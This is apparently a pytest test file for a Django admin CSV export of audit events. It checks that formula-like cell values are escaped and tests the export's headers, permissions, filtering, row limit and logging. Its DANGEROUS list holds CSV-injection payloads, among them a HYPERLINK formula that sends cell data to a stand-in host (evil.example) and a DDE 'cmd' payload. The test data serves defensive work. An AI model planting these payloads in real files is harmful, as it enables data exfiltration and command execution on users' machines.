"""The export of events: a spreadsheet shows what people typed and runs none of it."""

import csv
import io
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import DjangoAssertNumQueries

from campaigns.admin.events import export
from campaigns.admin.events.admin import EventAdmin
from campaigns.audit import seals
from campaigns.domain.audit.verbs import Verb
from campaigns.models import Application, Event
from tests.audit.conftest import happened
from tests.factories import make_application, make_campaign, make_user

EXPORT = "admin:campaigns_event_export"
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "|calc",
    "%0A=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A",
    "  =1",
    "\u3000=1",
    "\u00a0=1",
    "\u2003=1",
    "\u200b=1",
    "\ufeff =1",
    "\u202e+1",
]
HARMLESS = ["Sale 50%", 'say "hi", twice', "a;b", "line\nbreak", "促销 = 5", "", "'quoted"]


def rows(text: str) -> list[list[str]]:
    assert text.startswith(export.BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(export.BOM), newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_becomes_text(text: str) -> None:
    assert rows("".join(export.csv_lines([[text, "next"]]))) == [[f"'{text}", "next"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays(text: str) -> None:
    assert rows("".join(export.csv_lines([[text, "next"]]))) == [[text, "next"]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_no_cell_begins_a_formula_or_breaks_out(cells: list[str]) -> None:
    (row,) = rows("".join(export.csv_lines([cells])))
    assert [cell.removeprefix("'") for cell in row] == [cell.removeprefix("'") for cell in cells]
    assert not any(cell[:1] in export.FORMULA for cell in row if cell)


@pytest.fixture
def auditor(shop: Application) -> Client:
    client = Client()
    client.force_login(make_user("anna", "auditor", [shop]))
    return client


def downloaded(response: Any) -> list[dict[str, str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = response.getvalue().decode()
    header, *lines = rows(text)
    assert header == list(export.COLUMNS)
    return [dict(zip(header, line, strict=False)) for line in lines]


def test_file_as_a_browser_gets_it(auditor: Client) -> None:
    response = auditor.get(reverse(EXPORT))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="events-{timezone.now():%Y-%m-%d}.csv"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_each_event_with_its_seal(auditor: Client, shop: Application) -> None:
    event = make_campaign(shop, name="=1+1").events.get()
    seals.seal()
    found = {row["id"]: row for row in downloaded(auditor.get(reverse(EXPORT)))}[str(event.pk)]
    assert (found["verb"], found["actor"], found["campaign"]) == ("create", "maria", "'=1+1")
    assert (found["application"], found["actor_id"]) == (shop.app_key, str(event.actor_id))
    assert found["at"] == event.at.isoformat(timespec="microseconds")
    assert found["seal_digest"] == event.seal.digest
    assert found["seal_position"] == str(event.seal.position)


def test_only_what_the_screen_shows(auditor: Client, shop: Application) -> None:
    happened("ours", shop)
    happened("theirs", make_application("Other"))
    happened("the installation's", verb=Verb.PAUSE_EVERYTHING)
    every = [row["comment"] for row in downloaded(auditor.get(reverse(EXPORT)))]
    assert {"ours", "the installation's"} <= set(every)
    assert "theirs" not in every
    ours = downloaded(auditor.get(reverse(EXPORT), {"application": shop.pk}))
    assert [row["comment"] for row in ours] == ["ours"]


def test_the_newest_up_to_a_limit_and_the_file_says_so(
    auditor: Client, shop: Application, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "ROWS", 2)
    pks = [happened(str(number), shop).pk for number in range(3)]
    *found, last = downloaded(auditor.get(reverse(EXPORT)))
    assert [row["id"] for row in found] == [str(pk) for pk in reversed(pks[1:])]
    assert "newest 2" in last["id"]


def test_who_may_not_see_events_gets_no_file(shop: Application) -> None:
    client = Client()
    client.force_login(make_user("nora", role=None, applications=[shop]))
    assert client.get(reverse(EXPORT)).status_code == 403
    assert Client().get(reverse(EXPORT)).status_code == 302


def test_a_page_that_is_not_there_is_not_found(
    auditor: Client, shop: Application, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(EventAdmin, "list_per_page", 1)
    for comment in "ab":
        happened(comment, shop)
    assert auditor.get(reverse(EXPORT), {"p": 99}).status_code == 404


@pytest.mark.parametrize("query", ["actor__password__startswith=a", "application=999"])
def test_an_odd_query_shows_nothing_more(auditor: Client, shop: Application, query: str) -> None:
    happened("ours", shop)
    response = auditor.get(f"{reverse(EXPORT)}?{query}")
    assert response.status_code in {400, 404} or not downloaded(response)


def test_taking_the_file_changes_nothing_and_stands_in_the_log(
    auditor: Client, caplog: pytest.LogCaptureFixture
) -> None:
    before = Event.objects.count()
    with caplog.at_level("INFO", "campaigns.audit"):
        downloaded(auditor.get(reverse(EXPORT)))
    assert caplog.messages == ["anna exports the events (all)"]
    assert Event.objects.count() == before
    assert auditor.post(reverse(EXPORT)).status_code == 405


def test_the_screen_leads_to_the_file_with_its_filter(auditor: Client, shop: Application) -> None:
    page = auditor.get(reverse("admin:campaigns_event_changelist"), {"application": shop.pk})
    assert f"{reverse(EXPORT)}?application={shop.pk}" in page.content.decode()


def test_number_of_queries_does_not_grow(
    auditor: Client, shop: Application, django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    for number in range(30):
        happened(str(number), shop)
    with django_assert_max_num_queries(15):
        assert len(downloaded(auditor.get(reverse(EXPORT)))) >= 30
